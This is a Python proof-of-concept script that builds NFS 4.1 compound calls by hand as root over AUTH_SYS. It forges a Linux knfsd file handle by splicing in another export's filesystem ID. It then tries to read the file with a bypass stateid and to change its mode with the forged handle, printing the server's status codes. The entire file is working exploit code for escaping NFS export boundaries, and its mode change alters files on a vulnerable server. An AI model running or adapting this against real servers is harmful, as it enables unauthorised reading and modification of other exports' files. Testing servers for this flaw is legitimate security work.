# SPDX-License-Identifier: Apache-2.0
"""Runs on the client as root: joins a file's handle with the identity of another share and uses it (NFS 4.1, RFC 8881).

    python3 forged_handle.py HOST PATH-OF-A-FILE PATH-OF-ANOTHER-SHARE

Prints the status, as NFS numbers it, of reading the file and of changing its mode: first with the handle as it was
given, then with the joined one. No client asks with a handle that it was not given, so the calls are made here.
"""

import os
import random
import socket
import struct
import sys

GETFH, LOOKUP, PUTFH, PUTROOTFH, READ, SETATTR = 10, 15, 22, 24, 25, 34
EXCHANGE_ID, CREATE_SESSION, DESTROY_SESSION, SEQUENCE, DESTROY_CLIENTID, RECLAIM_COMPLETE = 42, 43, 44, 53, 57, 58
NFS, COMPOUND = 100003, 1
# Bytes of a result behind its status; every other result is the last of its call.
FIXED = {SEQUENCE: 36, RECLAIM_COMPLETE: 0, PUTROOTFH: 0, PUTFH: 0, LOOKUP: 0}
READ_BYPASS = b"\xff" * 16  # stateid of one who has nothing open
MODE = struct.pack(">IIIII", 2, 0, 1 << 1, 4, 0o640)  # fattr4 with attribute 33 alone
# struct knfsd_fh of Linux: version, type of MAC, kind of fsid, kind of file id; then the fsid: UUID, or inode and UUID
HEAD, FSID_BYTES = 4, {6: 16, 7: 24}


class Refused(Exception):
    """The server said no: `args` is the status."""


def opaque(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data + bytes(-len(data) % 4)


class Session:
    """One connection from a port below 1024, with a session of one slot; each call is a compound."""

    def __init__(self, host: str) -> None:
        self.socket = socket.socket()
        for port in random.sample(range(700, 1000), 100):
            try:
                self.socket.bind(("", port))
                break
            except OSError:
                continue
        self.socket.settimeout(120)
        self.socket.connect((host, 2049))
        owner = os.urandom(8) + opaque(b"forged " + os.urandom(8).hex().encode())
        client = self._compound([(EXCHANGE_ID, owner + struct.pack(">III", 0, 0, 0))])[0]
        self.client = client[:8]
        channel = struct.pack(">7I", 0, 65536, 65536, 4096, 8, 1, 0)
        create = client[:12] + struct.pack(">I", 0) + channel + channel + struct.pack(">III", 0x40000000, 1, 0)
        self.id = self._compound([(CREATE_SESSION, create)])[0][:16]
        self.sequence = 0
        self.ask([(RECLAIM_COMPLETE, struct.pack(">I", 0))])

    def ask(self, operations: list[tuple[int, bytes]]) -> list[bytes]:
        """What each operation returned; Refused with the status of the one that failed."""
        self.sequence += 1
        return self._compound([(SEQUENCE, self.id + struct.pack(">IIII", self.sequence, 0, 0, 0)), *operations])[1:]

    def end(self) -> None:
        """Leave: the kernel would know this client, and count its connections, for a day (fs/nfsd courtesy clients)."""
        self._compound([(DESTROY_SESSION, self.id)])
        self._compound([(DESTROY_CLIENTID, self.client)])
        self.socket.close()

    def _compound(self, operations: list[tuple[int, bytes]]) -> list[bytes]:
        body = opaque(b"") + struct.pack(">II", 1, len(operations))
        body += b"".join(struct.pack(">I", number) + arguments for number, arguments in operations)
        unix = struct.pack(">I", 0) + opaque(b"client") + struct.pack(">III", 0, 0, 0)  # AUTH_SYS: root, no groups
        call = struct.pack(">6I", 1, 0, 2, NFS, 4, COMPOUND) + struct.pack(">I", 1) + opaque(unix)
        packet = call + struct.pack(">II", 0, 0) + body
        self.socket.sendall(struct.pack(">I", 0x80000000 | len(packet)) + packet)
        answer = b""
        last = False
        while not last:
            (mark,) = struct.unpack(">I", self._read(4))
            last = bool(mark & 0x80000000)
            answer += self._read(mark & 0x7FFFFFFF)
        # xid, reply, accepted, no verifier, success
        assert struct.unpack_from(">6I", answer) == (1, 1, 0, 0, 0, 0), answer
        return results(answer[24:], len(operations))

    def _read(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            more = self.socket.recv(size - len(data))
            if not more:
                raise SystemExit("the server closed the connection")
            data += more
        return data


def results(answer: bytes, count: int) -> list[bytes]:
    """The results of a compound; Refused with its status."""
    status, tag = struct.unpack_from(">II", answer)
    if status:
        raise Refused(status)
    at, parts = 8 + tag + -tag % 4 + 4, []
    for _ in range(count):
        (number,) = struct.unpack_from(">I", answer, at)
        at += 8
        end = at + FIXED.get(number, len(answer))
        parts.append(answer[at:end])
        at = end
    return parts


def handle(session: Session, path: str) -> bytes:
    names = [(LOOKUP, opaque(name.encode())) for name in path.strip("/").split("/")]
    answer = session.ask([(PUTROOTFH, b""), *names, (GETFH, b"")])[-1]
    (size,) = struct.unpack_from(">I", answer)
    return answer[4 : 4 + size]


def joined(file: bytes, share: bytes) -> bytes:
    """The file of one handle in the export of the other."""
    kind = share[2]
    assert file[2] == kind, (file.hex(), share.hex())
    begin = HEAD + FSID_BYTES[kind]
    return file[:HEAD] + share[HEAD:begin] + file[begin:]


def status(session: Session, *operations: tuple[int, bytes]) -> int:
    try:
        session.ask(list(operations))
    except Refused as refusal:
        return int(refusal.args[0])
    return 0


def main() -> None:
    host, file, share = sys.argv[1:]
    session = Session(host)
    given = handle(session, file)
    forged = joined(given, handle(session, share))
    assert forged != given
    for file_handle in (given, forged):
        put = (PUTFH, opaque(file_handle))
        read = status(session, put, (READ, READ_BYPASS + struct.pack(">QI", 0, 4096)))
        print(read, status(session, put, (SETATTR, bytes(16) + MODE)))
    session.end()


if __name__ == "__main__":
    main()
